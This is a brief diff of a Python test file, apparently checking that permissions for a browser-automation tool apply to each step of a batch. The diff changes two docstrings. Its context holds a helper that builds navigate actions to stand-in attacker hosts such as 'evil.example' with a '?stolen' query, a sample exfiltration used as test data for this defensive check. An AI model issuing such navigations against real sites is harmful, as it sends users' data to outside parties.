@@ -1,4 +1,4 @@
-"""browser_act does what other tools do: what was said of each of them holds for it there too."""
+"""browser_act and other tools: the same permissions apply to each of its steps."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ MAIL, EVIL, WORSE = "https://mail.example", "https://evil.example", "https://wor
 
 
 def goes(*urls: str) -> dict[str, Any]:
-    """A batch that goes to these addresses."""
+    """A batch that navigates to these URLs."""
     return {"tabId": 7, "actions": [{"action": "navigate", "url": f"{url}/?stolen"} for url in urls]}
 
 
